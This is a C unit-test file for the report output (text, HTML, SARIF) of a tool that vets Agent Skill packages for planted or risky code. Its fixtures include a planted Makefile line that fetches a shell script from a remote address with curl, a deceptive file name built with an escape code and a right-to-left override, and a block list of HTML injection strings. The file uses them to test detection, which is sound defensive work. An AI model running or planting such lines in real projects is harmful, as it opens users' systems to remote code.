/* The report and its faces: whole, bounded, and nothing in them that a package could act through.
 */
#include "unit.h"

#include <string.h>
#include <utf8proc.h>

#include "base/cleanup.h"
#include "base/json.h"
#include "base/text.h"
#include "report_text.h"
#include "sample.h"

static void for_each(void (*check)(const char *name, const json_t *report))
{
    for (size_t i = 0; sample_names[i]; i++) {
        aq_auto_json json_t *report = sample_report(sample_names[i]);
        assert_non_null(report);
        check(sample_names[i], report);
    }
}

static const char *verdict_of(const char *name)
{
    aq_auto_json json_t *report = sample_report(name);
    const char *verdict = aq_json_str(report, "verdict");

    for (aq_verdict v = AQ_PASS; v <= AQ_INCONCLUSIVE; v++)
        if (strcmp(aq_verdict_name(v), verdict) == 0)
            return aq_verdict_name(v);
    return NULL;
}

static void verdicts(void **state)
{
    (void)state;
    assert_string_equal(verdict_of("plain"), "inconclusive");
    assert_string_equal(verdict_of("pass"), "pass");
    assert_string_equal(verdict_of("reject"), "reject");
    assert_null(sample_report("no such"));
}

static void check_checklist(const char *name, const json_t *report)
{
    const json_t *list = json_object_get(report, "checklist"), *row;
    size_t i, n = json_array_size(list);

    assert_true(n >= 1 && n <= AQ_CHECKLIST);
    json_array_foreach (list, i, row) {
        assert_non_null(aq_json_str(row, "risk"));
        assert_true(strlen(aq_json_str(row, "text")) > 0);
    }
    /* There is always a line that says what the package is made of; behind it stands nothing but
     * the stages that did not run. */
    for (i = n - 1; i > 0 && strcmp(aq_json_str(json_array_get(list, i), "risk"), "share") != 0;)
        i--;
    row = json_array_get(list, i);
    assert_string_equal(aq_json_str(row, "risk"), "share");
    assert_true(i + 2 >= n);
    if (i + 1 < n)
        assert_non_null(strstr(aq_json_str(json_array_get(list, n - 1), "text"), "Not checked: "));
    for (size_t w = 0; w < 3; w++) {
        static const char *const words[] = {"generated", "vendored", "minified"};
        if (!strstr(aq_json_str(row, "text"), words[w]))
            fail_msg("%s: the checklist does not state the share that is %s", name, words[w]);
    }
}

static void checklists(void **state)
{
    (void)state;
    for_each(check_checklist);
}

static size_t risk_rank(const char *risk)
{
    static const char *const order[] = {"reject", "grave", "starts", "review",
                                        "unread", "look",  "share"};
    size_t i = 0;

    while (i < 7 && strcmp(order[i], risk) != 0)
        i++;
    return i;
}

static void the_checklist_is_ranked(void **state)
{
    aq_auto_json json_t *report = sample_report("planted");
    const json_t *row;
    size_t i, last = 0, looks = 0;

    (void)state;
    json_array_foreach (json_object_get(report, "checklist"), i, row) {
        size_t rank = risk_rank(aq_json_str(row, "risk"));
        if (strncmp(aq_json_str(row, "text"), "Not checked: ", 13) == 0)
            continue; /* said above already, so it comes last */
        assert_true(rank < 7 && rank >= last);
        last = rank;
        looks += rank == 1 || rank == 5;
    }
    assert_true(looks >= 1); /* a flood of findings leaves the planted line its place */
    row = json_array_get(json_object_get(report, "checklist"), 0);
    assert_string_equal(aq_json_str(row, "risk"), "grave"); /* before what only needs review */
    row = json_array_get(json_object_get(report, "checklist"), 1);
    assert_non_null(strstr(aq_json_str(row, "text"), "137 times")); /* one line for them all */
}

static void check_width(const char *name, const json_t *report)
{
    static const unsigned widths[] = {20, 31, 40, 80, 132};

    for (size_t i = 0; i < 10; i++) {
        aq_text_options o = {.width = widths[i % 5], .verbose = i >= 5};
        aq_auto_buf out = {0};
        unsigned column = 0;
        aq_report_text(report, &o, &out);
        assert_true(aq_utf8_valid(out.data, out.len));
        const unsigned char *p = (unsigned char *)out.data, *end = p + out.len;
        while (p < end) {
            int32_t c = aq_utf8_next(&p, end);
            assert_true(c == '\n' || (c >= 0x20 && c != 0x7f && !(c >= 0x80 && c < 0xa0)));
            assert_false(aq_text_hidden(c));
            column = c == '\n' ? 0 : column + (unsigned)utf8proc_charwidth(c);
            if (column > o.width)
                fail_msg("%s: a line is wider than %u", name, o.width);
        }
    }
}

static void text_keeps_its_width(void **state)
{
    (void)state;
    for_each(check_width);
}

static void cut_at_line(aq_buf *text, unsigned lines)
{
    char *p = text->data;

    while (lines-- && p)
        p = strchr(p, '\n') ? strchr(p, '\n') + 1 : NULL;
    if (p)
        *p = 0;
}

static void the_first_screen_has_the_planted_line(void **state)
{
    aq_auto_json json_t *report = sample_report("planted");
    aq_text_options o = {.width = 80};
    aq_auto_buf out = {0};
    char *look;

    (void)state;
    aq_report_text(report, &o, &out);
    cut_at_line(&out, 24);
    assert_non_null(strstr(out.data, "INCONCLUSIVE"));
    assert_non_null(strstr(out.data, " share ")); /* the whole checklist is there */
    look = strstr(out.data, "\n grave ");
    assert_non_null(look);
    assert_non_null(strstr(look, "module-3141/Makefile:5"));
    assert_non_null(strstr(look, "curl -s http://203.0.113.9/i.sh"));
}

static void colour_only_if_asked(void **state)
{
    aq_auto_json json_t *report = sample_report("reject");
    aq_text_options plain = {.width = 80}, bright = {.width = 80, .colour = true};
    aq_auto_buf a = {0}, b = {0};

    (void)state;
    aq_report_text(report, &plain, &a);
    aq_report_text(report, &bright, &b);
    assert_null(strchr(a.data, '\x1b'));
    assert_non_null(strstr(b.data, "\x1b[1;31mREJECT\x1b[0m"));
}

static void check_html(const char *name, const json_t *report)
{
    static const char *const never[] = {"<script",     "<img",    "<iframe",    "<link",
                                        "javascript:", " style=", "http://www", "url(",
                                        "@import",     "<form"};
    aq_auto_buf out = {0};

    aq_report_html(report, &out);
    assert_true(aq_utf8_valid(out.data, out.len));
    for (size_t i = 0; i < sizeof never / sizeof *never; i++)
        if (strstr(out.data, never[i]))
            fail_msg("%s: %s is in the HTML", name, never[i]);
    assert_non_null(strstr(out.data, "default-src 'none'; style-src 'sha256-"));
}

static void html_is_inert(void **state)
{
    (void)state;
    for_each(check_html);
}

static const json_t *run_of(const json_t *sarif)
{
    return json_array_get(json_object_get(sarif, "runs"), 0);
}

static void sarif_locations(void **state)
{
    aq_auto_json json_t *report = sample_report("hostile");
    aq_auto_json json_t *sarif = aq_report_sarif(report);
    const json_t *result;
    bool odd = false, raw = false;
    size_t i;

    (void)state;
    json_array_foreach (json_object_get(run_of(sarif), "results"), i, result) {
        const json_t *place = json_object_get(
            json_array_get(json_object_get(result, "locations"), 0), "physicalLocation");
        const char *uri = aq_json_str(json_object_get(place, "artifactLocation"), "uri");
        if (!uri)
            continue;
        odd = odd || strcmp(uri, "dir%20name/100%25/a%3Ab%3F%23%C3%BC.md") == 0;
        raw = raw || strstr(uri, "%1B%5B31m%E2%80%AEfdp.exe%E2%80%8B%FF%0A");
        assert_null(strpbrk(uri, "<>\"\\ :?#"));
        assert_true(json_object_get(place, "region") == NULL || raw);
    }
    assert_true(odd && raw);
}

static void sarif_says_what_did_not_run(void **state)
{
    aq_auto_json json_t *plain = sample_report("plain"), *whole = sample_report("pass");
    aq_auto_json json_t *a = aq_report_sarif(plain), *b = aq_report_sarif(whole);
    const json_t *x = json_array_get(json_object_get(run_of(a), "invocations"), 0);
    const json_t *y = json_array_get(json_object_get(run_of(b), "invocations"), 0);

    (void)state;
    assert_true(json_is_false(json_object_get(x, "executionSuccessful")));
    assert_int_equal(json_array_size(json_object_get(x, "toolExecutionNotifications")), 4);
    assert_true(json_is_true(json_object_get(y, "executionSuccessful")));
    assert_int_equal(json_array_size(json_object_get(y, "toolExecutionNotifications")), 0);
    assert_int_equal(json_array_size(json_object_get(
                         json_object_get(json_object_get(run_of(a), "tool"), "driver"), "rules")),
                     AQ_RULE_COUNT + 3);
}

static const json_t *result_of(const json_t *sarif, const char *rule)
{
    const json_t *result;
    size_t i;

    json_array_foreach (json_object_get(run_of(sarif), "results"), i, result)
        if (strcmp(aq_json_str(result, "ruleId"), rule) == 0)
            return result;
    return NULL;
}

/* A planted line is in the face that code hosts show, under a rule that is listed. */
static void sarif_has_what_the_survey_saw(void **state)
{
    aq_entry_point hook = {.role = "hook:Stop", .command = "a.sh", .file = "hooks.json", .line = 7};
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = sample_report("planted"), *plain = sample_report("plain");
    aq_auto_json json_t *sarif = aq_report_sarif(report), *none = aq_report_sarif(plain);
    aq_auto_json json_t *starts = NULL, *hooked = NULL;
    const json_t *result = result_of(sarif, "survey.grave"), *rules;
    sample s;

    (void)state;
    assert_non_null(result);
    assert_string_equal(aq_json_str(result, "level"), "warning");
    rules =
        json_object_get(json_object_get(json_object_get(run_of(sarif), "tool"), "driver"), "rules");
    assert_string_equal(
        aq_json_str(json_array_get(rules, (size_t)aq_json_int(result, "ruleIndex", 0)), "id"),
        "survey.grave");
    assert_null(result_of(none, "survey.grave"));
    assert_null(result_of(none, "survey.look"));
    assert_null(result_of(none, "survey.starts"));
    sample_plain(a, &s);
    s.manifest.entry_points = &hook;
    s.manifest.entry_point_count = 1;
    starts = sample_finish(&s);
    hooked = aq_report_sarif(starts);
    assert_string_equal(aq_json_str(result_of(hooked, "survey.starts"), "level"), "note");
}

static void fingerprints_differ_and_stay(void **state)
{
    aq_auto_json json_t *report = sample_report("flood");
    aq_auto_json json_t *one = aq_report_sarif(report), *two = aq_report_sarif(report);
    aq_auto_json json_t *seen = json_object();
    const json_t *result;
    size_t i;

    (void)state;
    assert_true(json_equal(one, two));
    json_array_foreach (json_object_get(run_of(one), "results"), i, result) {
        const char *print =
            aq_json_str(json_object_get(result, "partialFingerprints"), "aquariumFinding/v1");
        assert_non_null(print);
        assert_null(json_object_get(seen, print));
        json_object_set_new(seen, print, json_true());
    }
}

static void tier_is(aq_publisher_tier publisher, aq_capability group, const char *pattern,
                    const char *want)
{
    aq_submission s = {
        .tier = publisher, .local = publisher == AQ_TIER_LOCAL, .signature = AQ_SIGNATURE_GOOD};
    aq_manifest m = {.kind = AQ_KIND_SKILL, .declared = {.present = group < AQ_CAP_COUNT}};
    const char *why = NULL;

    if (pattern)
        m.declared.group[group] = (aq_cap_group){.present = true, .patterns = &pattern, .count = 1};
    assert_string_equal(aq_tier_wanted(&s, &m, &why), want);
    assert_true(why && *why);
}

static void tiers(void **state)
{
    (void)state;
    tier_is(AQ_TIER_LOCAL, AQ_CAP_CLOCK, NULL, "t0");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_FS_READ, "~/a", "t1");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "api.example.com", "t1");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "*.example.com", "t1");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "*.com", "t2");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_NETWORK, "*", "t2");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_SHELL, "git *", "t2");
    tier_is(AQ_TIER_LOCAL, AQ_CAP_COUNT, NULL, "t1"); /* nothing was said */
    tier_is(AQ_TIER_NEW, AQ_CAP_CLOCK, NULL, "t2");
    tier_is(AQ_TIER_IDENTIFIED, AQ_CAP_CLOCK, NULL, "t2");
    tier_is(AQ_TIER_PROVEN, AQ_CAP_CLOCK, NULL, "t1");
    tier_is(AQ_TIER_TRUSTED, AQ_CAP_SHELL, "*", "t2");
    tier_is(AQ_TIER_STEWARD, AQ_CAP_CLOCK, NULL, "t0");
}

static const json_t *check_row(const json_t *report, const char *risk)
{
    const json_t *row;
    size_t i;

    json_array_foreach (json_object_get(report, "checklist"), i, row)
        if (strcmp(aq_json_str(row, "risk"), risk) == 0)
            return row;
    return NULL;
}

static void in_html(const json_t *report, const char *want, bool there)
{
    aq_auto_buf out = {0};

    aq_report_html(report, &out);
    if ((strstr(out.data, want) != NULL) != there)
        fail_msg("“%s” is %sin the HTML", want, there ? "not " : "");
}

static void unread_is_on_the_list(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    const aq_unread unread = {
        .place = "big.bin", .reason = "budget unpacked-bytes", .bytes = 315000000};
    const json_t *row;
    sample s;

    (void)state;
    sample_plain(a, &s);
    s.package.unread = &unread;
    s.package.unread_count = 1;
    aq_findings_add_incomplete(s.findings, sample_rule(AQ_INFO, 0), "half.gz", "ends too early");
    report = sample_finish(&s);
    row = json_array_get(json_object_get(report, "checklist"), 0);
    assert_string_equal(aq_json_str(row, "risk"), "unread");
    assert_string_equal(aq_json_str(row, "file"), "big.bin");
    row = json_array_get(json_object_get(report, "checklist"), 1);
    assert_string_equal(aq_json_str(row, "risk"), "unread");
    assert_string_equal(aq_json_str(row, "file"), "half.gz");
    in_text(report, 120, false, "5 files, 315 MB; 1 of them (315 MB) was not read");
    in_text(report, 80, false, "not read      big.bin: budget unpacked-bytes");
}

/* What a finding has said is not said again, neither by the place nor among the facts. */
static void no_fact_is_told_twice(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *one = NULL, *two = NULL;
    const aq_unread unread = {.place = "a/b.py", .reason = "stands there twice", .bytes = 9};
    sample s;

    (void)state;
    sample_plain(a, &s);
    s.package.unread = &unread;
    s.package.unread_count = 1;
    aq_findings_add(s.findings, sample_rule(AQ_REJECT, 0), "a/b.py", "stands there twice.");
    one = sample_finish(&s);
    assert_string_equal(aq_json_str(check_row(one, "unread"), "text"),
                        "Not checked: L1 static analysis, L1.5 bundle composition, L2 content "
                        "scan, L3 quarantine");
    assert_non_null(strstr(aq_json_str(check_row(one, "reject"), "text"), ": Stands there twice"));
    not_in_text(one, "not read      ");
    sample_plain(a, &s); /* the same as an unfinished finding of no severity */
    s.package.unread = &unread;
    s.package.unread_count = 1;
    aq_findings_add_incomplete(s.findings, sample_rule(AQ_INFO, 0), "a/b.py", "too large");
    two = sample_finish(&s);
    assert_string_equal(aq_json_str(json_array_get(json_object_get(two, "checklist"), 0), "text"),
                        "Not read (9 bytes): stands there twice");
    assert_string_equal(aq_json_str(json_array_get(json_object_get(two, "checklist"), 1), "risk"),
                        "share");
}

/* Every finding is counted, listed or not; a budget that nobody counts is not shown as unspent. */
static void counts_are_true(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    const json_t *row;
    size_t i;
    sample s;

    (void)state;
    sample_plain(a, &s);
    for (i = 0; i < 302; i++)
        aq_findings_add(s.findings, sample_rule(AQ_REVIEW, 0), "a", "number %zu", i);
    report = sample_finish(&s);
    in_text(report, 80, false, "\n 302 findings: 302 review (100 listed)\n");
    in_text(report, 80, false, "and 282 more, 80 of them in the whole list (--verbose)");
    in_text(report, 80, true, "and 202 more of this rule");
    in_text(report, 80, false, "302 things to look at, first: ");
    json_array_foreach (json_object_get(json_object_get(report, "coverage"), "budgets"), i, row)
        assert_null(strstr("file-bytes ratio depth path-bytes document-nodes findings",
                           aq_json_str(row, "name")));
    assert_int_equal(i, 4);
    in_html(report, "bytes of one file", false);
    in_html(report, "files and folders in the package", true);
}

static void a_review_is_in_the_headline(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *one = NULL, *plain = sample_report("plain"),
                        *planted = sample_report("planted");
    sample s;

    (void)state;
    sample_plain(a, &s);
    aq_findings_add(s.findings, AQ_RULE_L0_NAME_MIXED, NULL, "mixed");
    one = sample_finish(&s);
    in_text(one, 100, false,
            " 1 thing to look at: Name mixes scripts. Also, L1, L1.5, L2 and L3 did not run.\n");
    not_in_text(plain, "to look at");
    not_in_text(plain, "Look at sort-notes");
    in_text(planted, 200, false, " Look at modules/group-31/module-3141/Makefile:5 first.");
    in_html(planted, " Look at modules/group-31/module-3141/Makefile:5 first.", true);
    in_html(planted, "<li><span class=\"pill grave\">grave</span>", true);
    in_html(plain, "<li><span class=\"pill grave\">", false);
}

static void what_runs_by_itself_is_told(void **state)
{
    aq_entry_point entries[] = {
        {.role = "cli", .command = "bin/tool", .file = "x.json", .line = 3},
        {.role = "hook:PostToolUse",
         .command = "hooks/note.sh",
         .matcher = "Edit|Write",
         .file = "x.json",
         .line = 7},
        {.role = "postinstall", .command = "node a.js", .file = "x.json", .line = 8},
        {.role = "mcp:http", .command = "https://x.example/", .file = "x.json", .line = 9},
    };
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL, *plain = sample_report("plain");
    const json_t *row;
    sample s;

    (void)state;
    sample_plain(a, &s);
    s.manifest.entry_points = entries;
    s.manifest.entry_point_count = 4;
    report = sample_finish(&s);
    row = check_row(report, "starts");
    assert_string_equal(
        aq_json_str(row, "text"),
        "Runs by itself after a tool is used (PostToolUse: Edit|Write): hooks/note.sh");
    assert_int_equal(aq_json_int(row, "line", 0), 7);
    in_text(report, 100, false, "2 more things run by themselves; next: node a.js");
    in_text(report, 100, false, "starts        Has an entry point (cli): bin/tool");
    in_text(report, 100, false, "starts        Connects by itself to an MCP server: https://x");
    in_text(report, 100, false, "declares      filesystem.read: ~/notes/**");
    in_html(report,
            "after a tool is used (PostToolUse: Edit|Write)</bdi>: <code>hooks/note.sh</code>",
            true);
    assert_null(check_row(plain, "starts"));
    in_text(plain, 80, false, "starts        nothing that its manifest names");
    in_text(plain, 80, false, "sandbox       T1 (container) would be needed: it declares that");
    in_text(plain, 80, false, "input         sort-notes");
    in_html(plain, "Agent Skill, from <code>sort-notes</code>", true);
}

/* Neither a reason nor a digest is ever cut. */
static void reasons_and_digests_are_whole(void **state)
{
    static const char hex[] = "72000f03610082031986da24259c2333202f3e4a7a0174b6cf36d85854533a9a";
    static const char why[] =
        "mentions “one”, “two” and “three”: could do this, and could do that, and could do a "
        "great many other things that a reader wants to know about before anything else, all of it";
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    sample s;

    (void)state;
    sample_plain(a, &s);
    aq_findings_add(s.findings, sample_rule(AQ_REJECT, 0), NULL,
                    "The envelope was made for the bytes with SHA-256 %s, the artifact has %s", hex,
                    hex);
    for (size_t i = 0; i < 3; i++)
        s.survey.looks[i] = (aq_look){.file = "SKILL.md",
                                      .line = (uint32_t)i + 1,
                                      .weight = 40,
                                      .in_file = 8,
                                      .why = why,
                                      .text = "the line itself"};
    s.survey.look_count = 3;
    s.survey.look_lines = 8;
    s.survey.look_files = 1;
    report = sample_finish(&s);
    for (unsigned width = 30; width <= 130; width += 10) {
        aq_text_options o = {.width = width};
        aq_auto_buf out = {0}, flat = {0};
        size_t found = 0;
        aq_report_text(report, &o, &out);
        for (const char *p = out.data; *p; p++)
            if (*p != ' ' && *p != '\n')
                aq_buf_addc(&flat, *p);
        for (const char *p = aq_buf_str(&flat); (p = strstr(p, hex)); p++)
            found++;
        assert_int_equal(found, 4); /* twice in the checklist, twice in the list */
        found = 0;
        for (const char *p = aq_buf_str(&flat); (p = strstr(p, "anythingelse,allofit")); p++)
            found++;
        assert_int_equal(found, 3);
        assert_non_null(strstr(flat.data, "5morelinestolookat;8inall,in1file"));
    }
    in_html(report, "5 more lines to look at; 8 in all, in 1 file", true);
}

/* What was left out of ten lines is counted, the grave ones by themselves. */
static void what_is_left_out_is_counted(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL, *few = NULL;
    const json_t *list, *row, *last = NULL;
    size_t i, grave = 0;
    sample s;

    (void)state;
    sample_plain(a, &s);
    for (i = 0; i < AQ_LOOKS; i++)
        s.survey.looks[i] = (aq_look){.file = "a.sh",
                                      .line = (uint32_t)i + 1,
                                      .weight = 90,
                                      .in_file = 40,
                                      .why = "mentions “x”: could do y",
                                      .text = "the line"};
    s.survey.look_count = AQ_LOOKS;
    s.survey.look_lines = 40;
    s.survey.look_files = 3;
    s.survey.grave_lines = 31;
    s.survey.grave_files = 2;
    report = sample_finish(&s);
    list = json_object_get(report, "checklist");
    assert_int_equal(json_array_size(list), AQ_CHECKLIST);
    json_array_foreach (list, i, row)
        if (strcmp(aq_json_str(row, "risk"), "grave") == 0) {
            grave++;
            last = row;
        }
    assert_int_equal(grave, 8); /* seven lines and the count */
    assert_string_equal(aq_json_str(last, "text"),
                        "33 more lines to look at, 24 of them grave; 40 in all, in 3 files");
    s.survey.look_count = 2; /* all that there are: nothing to count */
    s.survey.look_lines = s.survey.grave_lines = 2;
    few = sample_finish(&s);
    not_in_text(few, "more line");
}

static void names_that_were_compared_with_nothing(void **state)
{
    aq_auto_json json_t *report = sample_report("plain");

    (void)state;
    in_text(report, 80, false, "names         compared with 12 known names\n");
    not_in_text(report, "with nothing");
    json_object_set_new(json_object_get(report, "store"), "known_names", json_integer(0));
    in_text(report, 100, false, "L0 pass (names compared with nothing)");
    in_text(report, 200, false, "aquarium index import FILE");
    in_html(report, "pass, names compared with nothing", true);
    in_html(report, "aquarium index import FILE", true);
}

static void a_collection_is_no_single_package(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    sample s;

    (void)state;
    sample_plain(a, &s);
    s.manifest.members = 10;
    report = sample_finish(&s);
    in_text(report, 100, false, " 10 Agent Skills in “sort-notes”, 4 files");
    in_text(report, 100, false, "L0 pass (first of 10 members)");
    in_text(report, 120, false, "L0 gated the first of 10 members only; validate their folders");
    in_html(report, "10 Agent Skills in “sort-notes”", true);
}

static void the_namespace_is_in_the_headline(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    sample s;

    (void)state;
    sample_plain(a, &s);
    s.manifest.namespace_ = "@acme";
    report = sample_finish(&s);
    in_text(report, 100, false, "Agent Skill “@acme/sort-notes” 1.2.0");
}

/* What nearly every package gets is no finding on the faces, and is still told. */
static void the_usual_is_told_apart(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    sample s;

    (void)state;
    sample_plain(a, &s);
    aq_findings_add(s.findings, AQ_RULE_L0_ATTRIBUTE_WANTED, NULL, "Not given: version");
    report = sample_finish(&s);
    assert_int_equal(json_array_size(json_object_get(report, "findings")), 2);
    in_text(report, 80, false, "\n No findings\n");
    in_text(report, 80, false, "attributes    Not given: version");
    in_text(report, 80, false, "signature     none: nobody vouches");
    in_html(report, "Nothing was found by the stages that ran", true);
    in_html(report, "Not given: version", true);
    aq_findings_add_incomplete(s.findings, AQ_RULE_INTAKE_UNSIGNED, NULL, "no signature at all");
    json_decref(report);
    report = sample_finish(&s);
    in_text(report, 80, false, "\n 1 finding: 1 info\n"); /* this one decides something */
}

static void shares_name_their_files(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    sample s;

    (void)state;
    sample_plain(a, &s);
    s.survey.binary_files = 5;
    s.survey.binary_bytes = 5800;
    s.survey.largest[0][0] = "logo.png";
    s.survey.largest[0][1] = "a.wasm";
    s.survey.largest[3][0] = "lock.json";
    report = sample_finish(&s);
    assert_string_equal(aq_json_str(check_row(report, "share"), "text"),
                        "4 files, 8.1 kB: 11% generated (lock.json), 71% binary (logo.png, a.wasm "
                        "and 3 more); nothing minified or vendored");
}

/* In a file nothing is cut; the verdict is the last line, digests are for --verbose. */
static void a_file_has_it_whole(void **state)
{
    aq_auto_arena a = aq_arena_new();
    aq_auto_json json_t *report = NULL;
    aq_text_options o = {.width = 80, .whole = true, .evidence = "/state/evidence/00000002.json"};
    aq_auto_buf out = {0}, flat = {0}, name = {0};
    const char *last;
    sample s;

    (void)state;
    for (int i = 0; i < 30; i++)
        aq_buf_addf(&name, "folder-%d/", i);
    aq_buf_adds(&name, "end.md");
    sample_plain(a, &s);
    aq_findings_add(s.findings, AQ_RULE_L0_NAME_MIXED, name.data, "mixed");
    report = sample_finish(&s);
    aq_report_text(report, &o, &out);
    for (const char *p = out.data; *p; p++)
        if (*p != ' ' && *p != '\n')
            aq_buf_addc(&flat, *p);
    assert_null(strstr(out.data, "…"));
    assert_non_null(strstr(aq_buf_str(&flat), name.data));
    assert_non_null(strstr(out.data, "[l0.name.mixed]"));
    assert_non_null(strstr(out.data, "\n evidence      /state/evidence/00000002.json\n"));
    out.data[--out.len] = 0;
    last = strrchr(out.data, '\n') + 1;
    assert_string_equal(last, " INCONCLUSIVE  1 thing to look at: Name mixes scripts. Also, L1, "
                              "L1.5, L2 and L3 did not run.");
    not_in_text(report, aq_json_str(report, "verdict_digest"));
    in_text(report, 100, true, aq_json_str(report, "verdict_digest"));
    in_html(report, "aquarium verify EVIDENCE PACKAGE", true);
    in_html(report, "What these words mean", true);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(verdicts),
        cmocka_unit_test(checklists),
        cmocka_unit_test(the_checklist_is_ranked),
        cmocka_unit_test(text_keeps_its_width),
        cmocka_unit_test(the_first_screen_has_the_planted_line),
        cmocka_unit_test(colour_only_if_asked),
        cmocka_unit_test(html_is_inert),
        cmocka_unit_test(sarif_locations),
        cmocka_unit_test(sarif_says_what_did_not_run),
        cmocka_unit_test(sarif_has_what_the_survey_saw),
        cmocka_unit_test(fingerprints_differ_and_stay),
        cmocka_unit_test(tiers),
        cmocka_unit_test(unread_is_on_the_list),
        cmocka_unit_test(no_fact_is_told_twice),
        cmocka_unit_test(counts_are_true),
        cmocka_unit_test(a_review_is_in_the_headline),
        cmocka_unit_test(what_runs_by_itself_is_told),
        cmocka_unit_test(reasons_and_digests_are_whole),
        cmocka_unit_test(what_is_left_out_is_counted),
        cmocka_unit_test(names_that_were_compared_with_nothing),
        cmocka_unit_test(a_collection_is_no_single_package),
        cmocka_unit_test(the_namespace_is_in_the_headline),
        cmocka_unit_test(the_usual_is_told_apart),
        cmocka_unit_test(shares_name_their_files),
        cmocka_unit_test(a_file_has_it_whole),
    };

    return cmocka_run_group_tests_name("report", tests, NULL, NULL);
}
